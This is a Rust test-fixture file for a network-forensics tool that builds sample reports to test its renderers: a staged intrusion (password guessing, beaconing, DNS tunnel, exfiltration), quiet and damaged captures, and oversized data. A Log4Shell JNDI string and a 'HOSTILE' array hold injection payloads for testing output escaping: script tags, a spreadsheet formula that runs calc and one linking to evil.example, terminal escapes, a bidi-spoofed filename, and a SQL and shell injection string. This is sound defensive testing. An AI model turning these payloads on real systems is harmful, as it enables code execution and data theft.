//! Reports as the pipeline makes them, for the tests of all renderers: an attack, quiet captures, damage, hostile strings, and
//! one too big to read. All addresses and domains are reserved for documentation or private use.

use crate::model::finding::Term;
use crate::model::report::*;
use crate::model::time::{SECOND, rfc3339};
use crate::model::{CapHit, Finding, Outcome, Severity, Ts};
use serde_json::json;

/// 2026-03-14 08:00:00 UTC.
const START: Ts = 1_773_475_200 * SECOND;

fn minutes(n: i64) -> i64 {
    n * 60 * SECOND
}

fn texts(items: &[&str]) -> Vec<String> {
    items.iter().map(|item| (*item).to_owned()).collect()
}

/// A term of a confidence.
fn term(name: &str, weight: f64, value: f64) -> Term {
    Term { name: name.to_owned(), weight, value }
}

/// A finding with everything that does not tell the story filled in.
fn finding(number: usize, rule: &str, tactic: &str, title: &str, says: &str) -> Finding {
    Finding {
        id: format!("F{number}"),
        rule: rule.to_owned(),
        title: title.to_owned(),
        says: says.to_owned(),
        severity: Severity::Medium,
        confidence: 0.8,
        risk: 50.0,
        outcome: Outcome::Confirmed,
        attack: Vec::new(),
        tactic: tactic.to_owned(),
        family: rule.to_owned(),
        actors: Vec::new(),
        targets: Vec::new(),
        users: Vec::new(),
        first_seen: String::new(),
        last_seen: String::new(),
        first_ns: START,
        last_ns: START,
        evidence: serde_json::Value::Null,
        terms: Vec::new(),
        flows: Vec::new(),
        frames: Vec::new(),
        wireshark: String::new(),
        benign: String::new(),
        folded: 1,
        key: rule.to_owned(),
        incident: None,
    }
}

impl Finding {
    fn rated(mut self, risk: f64, confidence: f64, outcome: Outcome) -> Self {
        (self.risk, self.confidence, self.outcome, self.severity) = (risk, confidence, outcome, Severity::of_risk(risk));
        self
    }

    fn between(mut self, from: i64, until: i64) -> Self {
        (self.first_ns, self.last_ns) = (START + from, START + until);
        (self.first_seen, self.last_seen) = (rfc3339(self.first_ns), rfc3339(self.last_ns));
        self
    }

    fn who(mut self, actors: &[&str], targets: &[&str], users: &[&str]) -> Self {
        (self.actors, self.targets, self.users) = (texts(actors), texts(targets), texts(users));
        self
    }

    fn proven(mut self, attack: &[&str], evidence: serde_json::Value, terms: Vec<Term>, frames: Vec<u64>) -> Self {
        self.flows = frames.iter().take(6).map(u64::to_string).collect();
        (self.attack, self.evidence, self.terms, self.frames) = (texts(attack), evidence, terms, frames);
        self
    }

    fn explained(mut self, wireshark: &str, benign: &str) -> Self {
        (self.wireshark, self.benign) = (wireshark.to_owned(), benign.to_owned());
        self
    }
}

fn attack_findings() -> Vec<Finding> {
    let guess = finding(1, "login-after-guessing", "credential-access", "Login after password guessing",
        "203.0.113.66 guessed 412 passwords on 10.0.0.5 over ssh in 6 min 10 s; guess 413 was let in and stayed for 48 min.")
        .rated(94.2, 0.97, Outcome::Confirmed)
        .between(minutes(24), minutes(31))
        .who(&["203.0.113.66"], &["10.0.0.5"], &["root", "deploy"])
        .proven(&["T1110.001", "T1078"], json!({"failures": 412, "min_failures": 20, "session_seconds": {"observed": 2880, "min": 60}, "session_bytes": {"observed": 1_842_113, "min": 20_000}, "client": "SSH-2.0-libssh_0.9.6"}),
            vec![term("failures before success", 2.0, 1.0), term("session longer than any failure", 1.5, 0.9), term("client library common in guessing tools", 0.6, 1.0), term("source seen before the capture's first hour", -0.5, 0.4)],
            vec![20_412, 20_418, 20_431, 48_771, 48_790, 48_802, 49_120])
        .explained("ip.addr == 203.0.113.66 && ip.addr == 10.0.0.5 && tcp.port == 22", "A person who mistypes a password a few times and then gets in: expect fewer than five failures, seconds apart.");
    let exfil = finding(2, "exfil-volume", "exfiltration", "Unusual volume sent to one outside host",
        "10.0.0.5 sent 1.2 GB to 198.51.100.23 over tls in 41 min 12 s, 96.4 % of all it sent; it received 4.1 MB.")
        .rated(81.4, 0.93, Outcome::Likely)
        .between(minutes(52), minutes(93))
        .who(&["10.0.0.5"], &["198.51.100.23"], &[])
        .proven(&["T1048.002"], json!({"bytes_out": {"observed": 1_204_113_870u64, "min": 100_000_000}, "ratio_out_in": {"observed": 293.7, "min": 10}, "share_of_host": {"observed": 0.964, "min": 0.5}, "hosts_using_destination": {"observed": 1, "max": 2}, "sni": "files.example.net"}),
            vec![term("volume above the threshold", 1.2, 1.0), term("one way", 1.0, 0.97), term("nobody else goes there", 0.8, 1.0), term("known backup service", -2.0, 0.0)],
            (0..180).map(|n| 90_000 + n * 37).collect())
        .explained("ip.src == 10.0.0.5 && ip.dst == 198.51.100.23", "A backup or a large upload to a file-sharing service; look for a schedule and for other hosts doing the same.");
    let beacon = finding(3, "beacon", "command-and-control", "Regular check-ins with one outside host",
        "10.0.0.5 connected to 198.51.100.99:443 every 60.2 s, 87 times, with 3 % jitter and equal sizes.")
        .rated(72.0, 0.91, Outcome::Confirmed)
        .between(minutes(33), minutes(119))
        .who(&["10.0.0.5"], &["198.51.100.99"], &[])
        .proven(&["T1071.001", "T1573"], json!({"check_ins": 87, "min_check_ins": 8, "jitter": 0.031, "max_jitter": 0.4, "interval_seconds": 60.2, "size_regularity": {"observed": 0.98, "min": 0.6}, "ja4": "t13d1516h2_8daaf6152771_b186095e22b6"}),
            vec![term("regular intervals", 2.0, 0.97), term("regular sizes", 1.0, 0.98), term("rare destination", 0.8, 1.0), term("no name was looked up", 0.5, 1.0)],
            (0..87).map(|n| 52_000 + n * 913).collect())
        .explained("ip.addr == 10.0.0.5 && ip.addr == 198.51.100.99 && tcp.port == 443", "Update checks, telemetry, chat clients and monitoring are as regular; they go to names that many hosts use.");
    let tunnel = finding(4, "dns-tunnel", "command-and-control", "DNS tunnel: many long, never-repeated names under one domain",
        "10.0.0.5 asked 10.0.0.53 for 3,100 different names under t.example.org, 47 characters each on average, mostly TXT.")
        .rated(70.6, 0.88, Outcome::Confirmed)
        .between(minutes(40), minutes(75))
        .who(&["10.0.0.5"], &["10.0.0.53"], &[])
        .proven(&["T1071.004", "T1572"], json!({"names": 3100, "min_names": 100, "mean_length": 47.2, "min_mean_length": 30, "txt_share": 0.92, "domain": "t.example.org", "types": ["TXT", "NULL", "CNAME"]}),
            vec![term("names above the threshold", 1.5, 1.0), term("length", 0.9, 0.8), term("looks like base32", 1.0, 1.0)],
            (0..60).map(|n| 61_000 + n * 11).collect())
        .explained("dns.qry.name contains \"t.example.org\"", "CDN and antivirus look-ups encode hashes in names; expect few names per client.");
    let scan = finding(
        5,
        "port-scan-horizontal",
        "discovery",
        "Horizontal port scan",
        "10.0.0.5 tried port 445 on 233 addresses of 10.0.0.0/24 in 12 s; 9 answered.",
    )
    .rated(61.0, 0.95, Outcome::Confirmed)
    .between(minutes(35), minutes(36))
    .who(
        &["10.0.0.5"],
        &["10.0.0.7", "10.0.0.8", "10.0.0.9", "10.0.0.12", "10.0.0.20", "10.0.0.21", "10.0.0.31", "10.0.0.44", "10.0.0.53"],
        &[],
    )
    .proven(
        &["T1046"],
        json!({"targets": {"observed": 233, "min": 25}, "port": 445, "answered": 9, "seconds": 11.9}),
        vec![term("targets above the threshold", 1.8, 1.0), term("few answers", 0.7, 0.96)],
        (0..200).map(|n| 54_100 + n).collect(),
    )
    .explained(
        "ip.src == 10.0.0.5 && tcp.dstport == 445 && tcp.flags.syn == 1 && tcp.flags.ack == 0",
        "Inventory and vulnerability scanners, and printers that look for servers; ask who runs one.",
    );
    let probe = finding(
        6,
        "port-scan-vertical",
        "reconnaissance",
        "Vertical port scan",
        "203.0.113.66 tried 1,024 ports of 10.0.0.5 in 48 s; ports 22 and 443 answered.",
    )
    .rated(44.0, 0.96, Outcome::Confirmed)
    .between(minutes(12), minutes(13))
    .who(&["203.0.113.66"], &["10.0.0.5"], &[])
    .proven(
        &["T1595.001"],
        json!({"ports": {"observed": 1024, "min": 60}, "open_ports": [22, 443]}),
        vec![term("ports above the threshold", 2.0, 1.0)],
        (0..40).map(|n| 12_000 + n).collect(),
    )
    .explained(
        "ip.src == 203.0.113.66 && ip.dst == 10.0.0.5 && tcp.flags.syn == 1",
        "Outside hosts are scanned all day; what counts is what came after.",
    );
    let log4shell = finding(
        7,
        "log4shell",
        "initial-access",
        "Log4Shell string in a request",
        "203.0.113.66 sent ${jndi:ldap://203.0.113.66:1389/a} in the User-Agent to 10.0.0.80; no look-up followed.",
    )
    .rated(31.2, 0.82, Outcome::Attempt)
    .between(minutes(15), minutes(15))
    .who(&["203.0.113.66"], &["10.0.0.80"], &[])
    .proven(
        &["T1190"],
        json!({"field": "user_agent", "decoded": "${jndi:ldap://203.0.113.66:1389/a}", "callback_seen": false}),
        vec![term("exact string", 2.2, 1.0), term("no callback", -0.7, 1.0)],
        vec![14_902],
    )
    .explained("http.user_agent contains \"jndi\" && ip.addr == 10.0.0.80", "Scanners of your own security team send the same string.");
    let clear = finding(
        8,
        "cleartext-login",
        "credential-access",
        "Password in clear text",
        "10.0.0.31 logged in to 10.0.0.20 over ftp as backup; the password crossed the network readable.",
    )
    .rated(17.5, 0.98, Outcome::Confirmed)
    .between(minutes(61), minutes(61))
    .who(&["10.0.0.31"], &["10.0.0.20"], &["backup"])
    .proven(
        &["T1040", "T1552.001"],
        json!({"service": "ftp", "user": "backup", "accepted": true}),
        vec![term("both halves of the login seen", 3.0, 1.0)],
        vec![70_210, 70_214],
    )
    .explained("ftp && ip.addr == 10.0.0.31", "It is what it is; whether it is allowed is a question of policy.");
    vec![guess, exfil, beacon, tunnel, scan, probe, log4shell, clear]
}

fn host(ip: &str, risk: f64, state: &str, names: &[&str], tactics: &[&str], findings: &[&str]) -> Host {
    Host {
        ip: ip.to_owned(),
        names: texts(names),
        internal: ip.starts_with("10."),
        risk,
        severity: Severity::of_risk(risk),
        state: state.to_owned(),
        tactics: texts(tactics),
        findings: texts(findings),
        flows: (risk * 37.0) as u64 + 12,
        bytes_out: (risk * risk * 150_000.0) as u64,
        bytes_in: (risk * 90_000.0) as u64 + 5_000,
        ..Host::default()
    }
}

fn attack_hosts() -> Vec<Host> {
    let mut hosts = vec![
        host(
            "10.0.0.5",
            97.3,
            "compromised",
            &["web-01.corp.example", "WEB-01"],
            &["credential-access", "discovery", "command-and-control", "exfiltration"],
            &["F1", "F2", "F3", "F4", "F5", "F6"],
        ),
        host("203.0.113.66", 94.2, "attacking", &[], &["reconnaissance", "initial-access", "credential-access"], &["F1", "F6", "F7"]),
        host("10.0.0.80", 31.2, "targeted", &["app-02.corp.example"], &["initial-access"], &["F7"]),
        host("10.0.0.20", 17.5, "accessed", &["ftp.corp.example"], &["credential-access"], &["F8"]),
        host("10.0.0.31", 17.5, "attacking", &["PRINT-LAB"], &["credential-access"], &["F8"]),
        host("10.0.0.53", 8.0, "clean", &["ns1.corp.example"], &[], &[]),
    ];
    hosts[0].macs = texts(&["02:42:0a:00:00:05"]);
    hosts[0].roles = texts(&["web_server", "ssh_server"]);
    hosts[5].roles = texts(&["dns_resolver"]);
    hosts
}

/// Traffic of two hours in minutes, with the shape of the story in it. Integer arithmetic: the same on every machine.
fn attack_traffic() -> Traffic {
    let bucket = |minute: u64| {
        let hum = 40 + (minute * 7_919) % 23 + (minute * 104_729) % 17;
        let (scan, exfil) = (u64::from((12..14).contains(&minute) || (35..37).contains(&minute)), u64::from((52..94).contains(&minute)));
        Bucket {
            frames: hum * 9 + scan * 1_400 + exfil * 1_900,
            bytes: hum * 61_000 + scan * 90_000 + exfil * 29_000_000,
            flows: hum / 4 + scan * 500,
        }
    };
    Traffic { bucket_ns: minutes(1), from_ns: START, buckets: (0..120).map(bucket).collect() }
}

fn part(name: &str, count: u64, bytes: u64, note: &str) -> Share {
    Share { name: name.to_owned(), count, bytes, note: note.to_owned() }
}

fn rule(id: &str, title: &str, tactic: &str, attack: &[&str], status: &str, findings: u64, why: &str) -> RuleRun {
    // Any 64 hexadecimal digits do; derived from the id so that rows differ.
    let digit = |n: usize| char::from_digit(id.bytes().cycle().nth(n).map_or(0, |b| (u32::from(b) + n as u32 * 7) % 16), 16).unwrap_or('0');
    let sha256 = (0..64).map(digit).collect();
    RuleRun {
        id: id.to_owned(),
        title: title.to_owned(),
        tactic: tactic.to_owned(),
        attack: texts(attack),
        sha256,
        status: status.to_owned(),
        findings,
        why: why.to_owned(),
    }
}

fn rules_of_attack() -> Vec<RuleRun> {
    vec![
        rule("arp-spoof", "ARP spoofing", "credential-access", &["T1557.002"], "not_applicable", 0, "the capture holds no ARP"),
        rule("beacon", "Regular check-ins with one outside host", "command-and-control", &["T1071.001", "T1573"], "fired", 1, ""),
        rule("cleartext-login", "Password in clear text", "credential-access", &["T1040", "T1552.001"], "fired", 1, ""),
        rule(
            "dns-tunnel",
            "DNS tunnel: many long, never-repeated names under one domain",
            "command-and-control",
            &["T1071.004", "T1572"],
            "fired",
            1,
            "",
        ),
        rule("exfil-volume", "Unusual volume sent to one outside host", "exfiltration", &["T1048.002"], "fired", 1, ""),
        rule("icmp-tunnel", "ICMP tunnel", "command-and-control", &["T1095"], "silent", 0, ""),
        rule("log4shell", "Log4Shell string in a request", "initial-access", &["T1190"], "fired", 1, ""),
        rule("login-after-guessing", "Login after password guessing", "credential-access", &["T1110.001", "T1078"], "fired", 1, ""),
        rule("port-scan-horizontal", "Horizontal port scan", "discovery", &["T1046"], "fired", 1, ""),
        rule("port-scan-vertical", "Vertical port scan", "reconnaissance", &["T1595.001"], "fired", 1, ""),
        rule("shellshock", "Shellshock string in a request", "initial-access", &["T1190"], "silent", 0, ""),
        rule("syn-flood", "SYN flood", "impact", &["T1498.001"], "silent", 0, ""),
    ]
}

fn evidence(id: u32, path: &str, bytes: u64, frames: u64) -> Evidence {
    Evidence {
        id,
        path: path.to_owned(),
        format: "pcapng, zstd".to_owned(),
        bytes,
        sha256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08".to_owned(),
        blake3: "4878ca0425c739fa427f7eda20fe845f6b2e46ba5fe2a14df5b1e32f50603215".to_owned(),
        frames,
        first_ts: Some(START),
        last_ts: Some(START + minutes(120)),
        links: texts(&["ETHERNET"]),
        also_at: Vec::new(),
    }
}

fn timeline_of(findings: &[Finding]) -> Vec<TimelineEntry> {
    let mut entries: Vec<TimelineEntry> = findings
        .iter()
        .map(|f| TimelineEntry {
            ts_ns: f.first_ns,
            until_ns: f.last_ns,
            finding: f.id.clone(),
            tactic: f.tactic.clone(),
            says: f.says.clone(),
            severity: f.severity,
        })
        .collect();
    entries.sort_by_key(|entry| entry.ts_ns);
    entries.truncate(60);
    entries
}

fn run() -> Run {
    Run {
        version: "0.1.0".to_owned(),
        argv: texts(&["vigil", "analyze", "evidence/dmz-2026-03-14.pcapng.zst", "--report", "html,json,md,csv"]),
        started: "2026-03-15T09:12:44Z".to_owned(),
        seconds: 3.418,
        threads: 8,
        folder: "dmz-2026-03-14.vigil".to_owned(),
    }
}

/// A break-in from scan to exfiltration, in a capture with the usual flaws.
pub fn attack() -> Report {
    let findings = attack_findings();
    let traffic = attack_traffic();
    let coverage = Coverage {
        bytes: 1_412_870_331,
        frames: 1_402_113,
        decoded: 1_401_977,
        undecoded: vec![
            part("unknown EtherType 0x88cc", 118, 0, "first frame 41"),
            part("IPv4 header shorter than 20 bytes", 18, 0, "first frame 90211"),
        ],
        flows: 48_977,
        encrypted_bytes: 1_261_000_000,
        payload_bytes: 1_344_000_000,
        one_sided_flows: 611,
        two_way_flows: 47_020,
        midstream_flows: 37,
        truncated_frames: 0,
        missed_bytes: 18_220,
        duplicate_frames: 0,
        reported_drops: Some(0),
        damaged: 0,
        first_ts: Some(START),
        last_ts: Some(START + minutes(120)),
        rules_run: 11,
        rules_fired: 8,
        rules_not_applicable: 1,
        caps: Vec::new(),
        blind_spots: texts(&[
            "93.8 % of the payload is encrypted: what was sent to 198.51.100.23 cannot be read here.",
            "Traffic inside the network that does not cross this tap is not in the capture.",
        ]),
    };
    Report {
        case: "dmz-2026-03-14".to_owned(),
        verdict: Verdict {
            severity: Some(Severity::Critical),
            line: "10.0.0.5 (web-01) was broken into by password guessing, is under remote control, and sent 1.2 GB out.".to_owned(),
            actions: texts(&[
                "Isolate 10.0.0.5 now; keep it powered on so that memory can be taken.",
                "Block 203.0.113.66, 198.51.100.23 and 198.51.100.99 at the border.",
                "Change the passwords of root and deploy everywhere they are used.",
            ]),
        },
        coverage,
        hosts: attack_hosts(),
        hosts_total: 214,
        timeline: timeline_of(&findings),
        findings,
        traffic,
        services: vec![
            part("tls", 21_402, 1_261_000_000, ""),
            part("http", 9_211, 61_400_000, ""),
            part("dns", 14_880, 11_200_000, ""),
            part("ssh", 431, 9_900_000, ""),
            part("smb", 233, 310_000, ""),
            part("ftp", 2, 14_000, ""),
            part("unrecognised", 2_818, 176_000, ""),
        ],
        rules: rules_of_attack(),
        evidence: vec![evidence(0, "evidence/dmz-2026-03-14.pcapng.zst", 1_412_870_331, 1_402_113)],
        damage: Vec::new(),
        weird: vec![
            part("tcp_checksum_wrong", 20_411, 0, "first frame 12; usual where the sending machine was also the capturing one"),
            part("dns_name_too_long", 44, 0, "first frame 61002"),
        ],
        run: run(),
    }
}

/// A quiet capture with one harmless trigger.
pub fn benign() -> Report {
    let mut report = benign_without_findings();
    let update = finding(
        1,
        "beacon",
        "command-and-control",
        "Regular check-ins with one outside host",
        "10.0.0.14 connected to update.example.com every 900 s, 8 times; a known update service.",
    )
    .rated(9.1, 0.81, Outcome::BenignTrigger)
    .between(minutes(1), minutes(118))
    .who(&["10.0.0.14"], &["192.0.2.80"], &[])
    .proven(
        &["T1071.001"],
        json!({"check_ins": 8, "min_check_ins": 8, "jitter": 0.002, "max_jitter": 0.4}),
        vec![term("regular intervals", 2.0, 0.99), term("popular destination", -1.5, 1.0)],
        vec![51, 901, 1_820],
    )
    .explained("ip.addr == 10.0.0.14 && ip.addr == 192.0.2.80", "Update checks are as regular as this.");
    report.verdict.severity = Some(Severity::Info);
    report.verdict.line = "Nothing needs action. 1 finding is worth a line; 9.8 % of the payload could not be read.".to_owned();
    report.timeline = timeline_of(std::slice::from_ref(&update));
    report.findings = vec![update];
    report.coverage.rules_fired = 1;
    report.hosts.insert(0, host("10.0.0.14", 9.1, "clean", &["laptop-14"], &["command-and-control"], &["F1"]));
    report
}

/// A quiet capture in which no rule fired.
pub fn benign_without_findings() -> Report {
    let buckets = (0..120u64).map(|n| Bucket { frames: 20 + n * 7_919 % 31, bytes: 9_000 + n * 104_729 % 41_000, flows: n % 5 }).collect();
    let mut rules = rules_of_attack();
    for rule in &mut rules {
        if rule.status == "fired" {
            (rule.status, rule.findings) = ("silent".to_owned(), 0);
        }
    }
    Report {
        case: "office-morning".to_owned(),
        verdict: Verdict {
            severity: None,
            line: "No rule fired. 11 of 12 rules could look; see what they could not see.".to_owned(),
            actions: Vec::new(),
        },
        coverage: Coverage {
            bytes: 4_113_000,
            frames: 4_811,
            decoded: 4_811,
            flows: 301,
            encrypted_bytes: 310_000,
            payload_bytes: 3_150_000,
            one_sided_flows: 2,
            two_way_flows: 290,
            first_ts: Some(START),
            last_ts: Some(START + minutes(120)),
            rules_run: 11,
            rules_not_applicable: 1,
            blind_spots: texts(&["Two hours are too short to see anything that happens once a day."]),
            ..Coverage::default()
        },
        hosts: vec![host("10.0.0.53", 0.0, "clean", &["ns1.corp.example"], &[], &[])],
        hosts_total: 12,
        traffic: Traffic { bucket_ns: minutes(1), from_ns: START, buckets },
        services: vec![part("dns", 201, 61_000, ""), part("tls", 88, 2_900_000, ""), part("ntp", 12, 2_160, "")],
        rules,
        evidence: vec![evidence(0, "office-morning.pcap", 4_113_000, 4_811)],
        run: run(),
        ..Report::default()
    }
}

/// Half of the evidence cannot be read, and a cap was reached.
pub fn damaged() -> Report {
    let mut report = benign_without_findings();
    report.case = "recovered-disk".to_owned();
    report.verdict.line = "No rule fired, but 3 places of the evidence are damaged and 37.1 % of the frames could not be read.".to_owned();
    report.verdict.actions = texts(&["Ask for the original files: dump2.pcap ends in the middle of a packet."]);
    let c = &mut report.coverage;
    (c.frames, c.decoded, c.damaged, c.truncated_frames, c.missed_bytes) = (9_120, 5_736, 3, 7_001, 88_120_000);
    (c.one_sided_flows, c.midstream_flows, c.duplicate_frames, c.reported_drops) = (204, 188, 31, Some(5_120));
    c.undecoded = vec![
        part("IPv4 header cut short by the snap length", 3_377, 0, "first frame 9"),
        part("unknown link type 252", 7, 0, "first frame 8800"),
    ];
    c.caps = vec![CapHit { cap: "flows".to_owned(), limit: 4_096, hits: 12 }];
    c.blind_spots = texts(&[
        "70.3 % of flows show one side only: rules that need an answer were switched off.",
        "76.8 % of frames were cut after 96 bytes: payloads were not read.",
        "The capturing program says it dropped 5,120 frames.",
    ]);
    let line = |path: &str, after_frame, offset, kind: &str, detail: &str| DamageLine {
        path: path.to_owned(),
        after_frame,
        offset,
        kind: kind.to_owned(),
        detail: detail.to_owned(),
    };
    report.damage = vec![
        line("dump1.pcap", 411, 81_220, "absurd_record", "a record claims 3,221,225,472 bytes; reading resumed 1,204 bytes later"),
        line("dump2.pcap", 8_699, 1_048_570, "truncated", "the file ends 61 bytes before the last packet does"),
        line("dump2.pcap", 8_699, 1_048_570, "clock_jump", "time runs back by 3 h 12 min"),
    ];
    let mut second = evidence(1, "dump2.pcap", 1_048_576, 8_699);
    second.also_at = texts(&["copies/dump2 (1).pcap"]);
    report.evidence = vec![evidence(0, "dump1.pcap", 3_064_424, 421), second];
    report
}

/// What people put into packets to hurt those who read about them.
pub const HOSTILE: [&str; 24] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "</style><style>*{display:none}",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "<!-- --><svg/onload=alert(1)>",
    "&lt;b&gt; &#x3c;i&#x3e; &amp;",
    "javascript:alert(1)",
    "invoice\u{202e}fdp.exe",
    "a\u{2066}b\u{2069}\u{200b}\u{feff}c",
    "nul\0inside\u{7f}\u{9b}31m",
    "\u{1b}[2J\u{1b}]0;owned\u{7}\u{1b}[31mred",
    "line one\r\nline two\n\n# heading\n- item",
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "x;=1+1,\"quoted\"",
    "[click](http://evil.example) ![img](http://evil.example/x.png)",
    "| a | b |\n|---|---|\n| `code` ``` | <b>bold</b> |",
    "*bold* _it_ ~~no~~ `tick` \\ http://evil.example www.evil.example @everyone #1",
    "\u{fffd}\u{fffd}\u{e0041}e\u{301}\u{301}\u{301}\u{301}世界🦀",
    "'; DROP TABLE findings; -- $(id) `id`",
];

/// Every string of a report is hostile, one long beyond reason.
pub fn hostile() -> Report {
    let long = "A".repeat(100_000);
    let bad = |n: usize| HOSTILE[n % HOSTILE.len()].to_owned();
    let mut report = attack();
    report.case = bad(0);
    report.verdict.line = HOSTILE.join(" ");
    report.verdict.actions = vec![bad(1), bad(12), long.clone()];
    report.coverage.blind_spots = HOSTILE.iter().map(|s| (*s).to_owned()).collect();
    report.coverage.undecoded = HOSTILE.iter().map(|s| part(s, 1, 0, s)).collect();
    report.coverage.caps = vec![CapHit { cap: bad(3), limit: 1, hits: 1 }];
    report.findings = (0..HOSTILE.len()).map(|n| hostile_finding(n, &bad, &long)).collect();
    report.timeline = timeline_of(&report.findings);
    report.hosts = (0..HOSTILE.len())
        .map(|n| Host {
            names: vec![bad(n + 1), bad(n + 9)],
            macs: vec![bad(n)],
            roles: vec![bad(n)],
            ..host(&bad(n), 50.0, &bad(n), &[], &[HOSTILE[n]], &[HOSTILE[n], "F1"])
        })
        .collect();
    report.services = HOSTILE.iter().map(|s| part(s, 3, 4, s)).collect();
    report.weird = HOSTILE.iter().map(|s| part(s, 3, 4, s)).collect();
    report.rules = HOSTILE.iter().map(|s| RuleRun { sha256: (*s).to_owned(), ..rule(s, s, s, &[s], s, 1, s) }).collect();
    report.evidence = (0..HOSTILE.len()).map(|n| hostile_evidence(n, &bad)).collect();
    report.damage = HOSTILE
        .iter()
        .map(|s| DamageLine { path: (*s).to_owned(), kind: (*s).to_owned(), detail: (*s).to_owned(), ..DamageLine::default() })
        .collect();
    report.run = Run {
        version: bad(0),
        argv: HOSTILE.iter().map(|s| (*s).to_owned()).collect(),
        started: bad(2),
        seconds: f64::NAN,
        threads: 0,
        folder: bad(23),
    };
    report
}

fn hostile_finding(n: usize, bad: &dyn Fn(usize) -> String, long: &str) -> Finding {
    let all: Vec<String> = (0..HOSTILE.len()).map(bad).collect();
    let mut f = finding(n + 1, &bad(n), &bad(n + 2), &bad(n + 3), &bad(n + 4)).between(-minutes(100_000_000), minutes(60));
    if n == 0 {
        f.says = long.to_owned();
    }
    (f.id, f.family, f.key, f.wireshark, f.benign) = (bad(n), bad(n), bad(n), bad(n + 5), bad(n + 6));
    (f.attack, f.actors, f.targets, f.users, f.flows) = (all.clone(), all.clone(), all.clone(), all.clone(), all.clone());
    (f.first_seen, f.last_seen, f.incident) = (bad(n), bad(n), Some(bad(n)));
    f.terms = vec![term(&bad(n), f64::NAN, 1.0), term(&bad(n + 1), f64::INFINITY, -1.0)];
    f.evidence = serde_json::Value::Object(all.iter().map(|s| (s.clone(), json!({"observed": s, "min": s, s.as_str(): s}))).collect());
    (f.risk, f.confidence) = ([f64::NAN, -5.0, 1e300][n % 3], [f64::NAN, 2.0, -1.0][n % 3]);
    f
}

fn hostile_evidence(n: usize, bad: &dyn Fn(usize) -> String) -> Evidence {
    Evidence {
        path: bad(n),
        format: bad(n + 1),
        sha256: bad(n + 2),
        blake3: bad(n + 3),
        links: vec![bad(n + 4)],
        also_at: vec![bad(n + 5)],
        first_ts: Some(i64::MIN),
        last_ts: Some(i64::MAX),
        ..Evidence::default()
    }
}

/// Thousands of findings and hosts, every list as long as the model allows or longer.
pub fn huge() -> Report {
    let mut report = attack();
    let story = attack_findings();
    report.findings = (0..5_000).map(|n| Finding { id: format!("F{}", n + 1), ..story[n * story.len() / 5_000].clone() }).collect();
    report.hosts = (0..50u8)
        .map(|n| {
            let ids: Vec<String> = (1..=40u32).map(|k| format!("F{}", u32::from(n) * 40 + k)).collect();
            let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
            host(
                &format!("10.0.{n}.7"),
                97.0 - f64::from(n),
                "compromised",
                &["a-rather-long-host-name.department.corp.example"],
                &["discovery", "lateral-movement", "exfiltration"],
                &ids,
            )
        })
        .collect();
    report.hosts_total = 61_204;
    report.timeline = (0..60usize)
        .map(|n| TimelineEntry {
            ts_ns: START + minutes(n as i64 * 2),
            until_ns: START + minutes(n as i64 * 2 + 9),
            ..timeline_of(&story)[n % story.len()].clone()
        })
        .collect();
    report.traffic.buckets =
        (0..400u64).map(|n| Bucket { frames: n * 7_919 % 4_001, bytes: n * 104_729 % 900_001, flows: n % 40 }).collect();
    report.traffic.bucket_ns = 18 * SECOND;
    report.rules = (0..63).map(|n| RuleRun { id: format!("rule-{n:02}"), ..rules_of_attack()[n % 12].clone() }).collect();
    report.evidence = (0..300).map(|n| evidence(n, &format!("ring/dump_{n:05}.pcap"), 100_000_000, 140_211)).collect();
    report.weird = (0..50).map(|n| part(&format!("oddity_{n}"), 5_000 - n * 7, 0, "first frame 12")).collect();
    report.damage = (0..200)
        .map(|n| DamageLine {
            path: format!("ring/dump_{n:05}.pcap"),
            after_frame: n,
            offset: n * 977,
            kind: "truncated".to_owned(),
            detail: "the file ends in the middle of a packet".to_owned(),
        })
        .collect();
    report.coverage.damaged = 3_144;
    report
}

/// A capture without a single packet.
pub fn empty() -> Report {
    Report {
        case: "empty".to_owned(),
        verdict: Verdict { severity: None, line: "The evidence holds no packet.".to_owned(), actions: Vec::new() },
        evidence: vec![Evidence { path: "empty.pcap".to_owned(), format: "pcap".to_owned(), bytes: 24, ..Evidence::default() }],
        ..Report::default()
    }
}

/// Writes every fixture in every format to `target/report-samples`, to be looked at in a browser and a terminal:
/// `cargo test --lib report::fixture -- --ignored`.
#[test]
#[ignore = "writes files for people to look at"]
fn samples_to_look_at() {
    let folder = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target/report-samples");
    let all = [
        ("attack", attack()),
        ("benign", benign()),
        ("silent", benign_without_findings()),
        ("damaged", damaged()),
        ("empty", empty()),
        ("hostile", hostile()),
        ("huge", huge()),
    ];
    for (name, report) in all {
        std::fs::create_dir_all(folder.join(name)).unwrap();
        for format in super::Format::ALL {
            std::fs::write(folder.join(name).join(format.file_name()), super::render(format, &report).unwrap()).unwrap();
        }
        std::fs::write(folder.join(name).join("terminal.txt"), super::terminal(&report, 100, true)).unwrap();
    }
}
